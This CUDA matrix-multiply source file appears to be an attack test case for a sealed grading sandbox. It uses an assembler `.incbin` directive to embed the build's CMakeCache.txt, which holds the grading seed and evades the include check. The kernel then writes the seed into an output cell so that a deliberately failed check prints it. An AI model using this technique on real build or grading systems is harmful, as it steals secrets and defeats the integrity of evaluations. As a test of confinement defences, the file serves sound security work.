// Attack (sealed judging, issue #39 family 2: a secret read at build time). The assembler reads the
// build tree's CMakeCache.txt -- it holds the grading seed, the key to the hidden datasets and to
// every student's question code -- with `.incbin`: the compile runs in the tree's root, and the file
// never appears in the depfile the include check reads. The kernel computes the product, then writes
// the seed into P[0][0], so the "P[i][j] expected ... got X" line of the check it fails on purpose
// carries it out. Stopped by tilelab-confine: the assembler may not open the file.
#include <cuda_runtime.h>
#include <cstring>

asm(".pushsection .rodata\n"
    ".globl leaked_cache\n"
    "leaked_cache:\n"
    ".incbin \"CMakeCache.txt\"\n"
    ".byte 0\n"
    ".popsection\n");
extern "C" const char leaked_cache[];

__global__ void MatrixMulKernel(const float* M, const float* N, float* P, int Width, float leak) {
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k) Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = (Row == 0 && Col == 0) ? leak : Pvalue;
    }
}

void launch_matmul(const float* M, const float* N, float* P, int Width) {
    const char* key = "TILELAB_GRADING_SEED:STRING=";
    const char* at = strstr(leaked_cache, key);
    float leak = 0;
    for (const char* c = at ? at + strlen(key) : ""; *c >= '0' && *c <= '9'; ++c) leak = leak * 10 + (*c - '0');
    dim3 block(16, 16), grid((Width + 15) / 16, (Width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(M, N, P, Width, leak);
}

void matmul_host(const float* M_h, const float* N_h, float* P_h, int Width) {
    size_t size = (size_t)Width * Width * sizeof(float);
    float *M_d, *N_d, *P_d;
    cudaMalloc((void**)&M_d, size);
    cudaMalloc((void**)&N_d, size);
    cudaMalloc((void**)&P_d, size);
    cudaMemcpy(M_d, M_h, size, cudaMemcpyHostToDevice);
    cudaMemcpy(N_d, N_h, size, cudaMemcpyHostToDevice);
    launch_matmul(M_d, N_d, P_d, Width);
    cudaMemcpy(P_h, P_d, size, cudaMemcpyDeviceToHost);
    cudaFree(M_d);
    cudaFree(N_d);
    cudaFree(P_d);
}
